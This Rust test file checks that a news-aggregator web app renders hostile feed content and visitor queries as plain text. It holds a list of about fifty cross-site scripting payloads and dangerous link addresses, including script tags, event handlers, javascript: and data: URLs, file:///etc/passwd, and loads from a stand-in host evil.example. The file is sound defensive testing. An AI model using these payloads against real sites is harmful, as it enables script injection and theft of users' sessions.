//! No feed can put markup, script or addresses of its own kind into a page.

use crate::client::Desk;
use crate::markup::{check, elements};
use crate::support::kazbek::Kazbek;

/// Texts that would do harm if a page took them for more than text.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<form action=//evil.example/><input name=q></form>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(//evil.example/)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "\u{202e}desrever\u{202c}",
    "\u{2066}isolated\u{2069}",
    "[/mark]<b>[x]",
    "\\\"; alert(1); //",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{feff}<script>alert(1)</script>",
    "<a href=\"https://news.example/\" onclick=\"alert(1)\" style=\"position:fixed\">Georgia</a>",
];

/// Addresses that must not become links.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "https://news.example/\"onmouseover=\"alert(1)",
    "https://news.example/'><script>alert(1)</script>",
    "https://user:pass@news.example/<svg/onload=alert(1)>",
];

fn hostile_store() -> Kazbek {
    let kazbek = Kazbek::with_config("");
    let mut lines = String::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let item = serde_json::json!({
            "url": format!("https://news.example/{number}"),
            "title": format!("Georgia and Russia meet {number} {payload}"),
            "summary": format!("Tbilisi says {payload} to Moscow."),
            "published": format!("2026-03-02T{:02}:{:02}:00Z", number / 60, number % 60),
            "outlet": format!("Outlet {number} {payload}"),
            "language": if number % 3 == 0 { payload } else { &"en" },
        });
        lines.push_str(&format!("{item}\n"));
    }
    kazbek.write("news.jsonl", &lines);
    let ended = kazbek.run(&["import", "news.jsonl"]);
    assert_eq!(ended.code, 0, "{}", ended.stderr);
    // An import takes web addresses only; whatever else a store may have gotten is put there.
    let store = rusqlite::Connection::open(kazbek.path("data/kazbek.db")).expect("the store");
    for (number, address) in ADDRESSES.iter().enumerate() {
        let sql = "UPDATE items SET url = ?1 WHERE id % ?2 = ?3";
        store.execute(sql, rusqlite::params![address, ADDRESSES.len() as i64, number as i64]).expect("an update");
    }
    kazbek
}

#[test]
fn hostile_texts_and_addresses_come_out_as_text() {
    let kazbek = hostile_store();
    let desk = Desk::serving(&kazbek);
    let items = desk.get("/api/v1/items?limit=1000").json();
    let items = items["items"].as_array().unwrap();
    assert!(items.len() >= 40, "{} items", items.len());
    let mut paths: Vec<String> =
        vec!["/".to_owned(), "/search?q=Georgia".to_owned(), "/search?tag=place:georgia".to_owned()];
    for item in items {
        paths.push(format!("/stories/{}", item["story"].as_i64().unwrap_or(item["id"].as_i64().unwrap())));
        if let Some(url) = item["url"].as_str() {
            assert!(url.starts_with("http://") || url.starts_with("https://"), "{url}");
        }
    }
    paths.sort();
    paths.dedup();
    for path in &paths {
        let page = desk.get(path);
        assert_eq!(page.status, 200, "{path}");
        let found = check(path, &page.body);
        assert!(found.iter().all(|element| element.attribute("lang").is_none_or(|lang| lang.len() <= 35)), "{path}");
        assert!(!page.body.contains('\u{202e}') && !page.body.contains('\u{2066}'), "{path}: a mark that reorders");
    }
}

#[test]
fn what_a_visitor_asks_for_comes_back_as_text() {
    let kazbek = hostile_store();
    let desk = Desk::serving(&kazbek);
    for payload in PAYLOADS {
        let encoded: String = payload.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for path in [
            format!("/search?q={encoded}"),
            format!("/search?tag={encoded}&outlet={encoded}"),
            format!("/search?since={encoded}"),
            format!("/issues/day/{encoded}"),
            format!("/issues/{encoded}"),
            format!("/login?next={encoded}"),
            format!("/{encoded}"),
        ] {
            let answer = desk.get(&path);
            assert!(matches!(answer.status, 200 | 400 | 404), "{path}: {}", answer.status);
            elements(&answer.body);
            check(&path, &answer.body);
        }
        let refused = desk.get(&format!("/api/v1/items?{encoded}=1"));
        assert_eq!((refused.status, refused.header("content-type")), (400, "application/json"));
    }
}
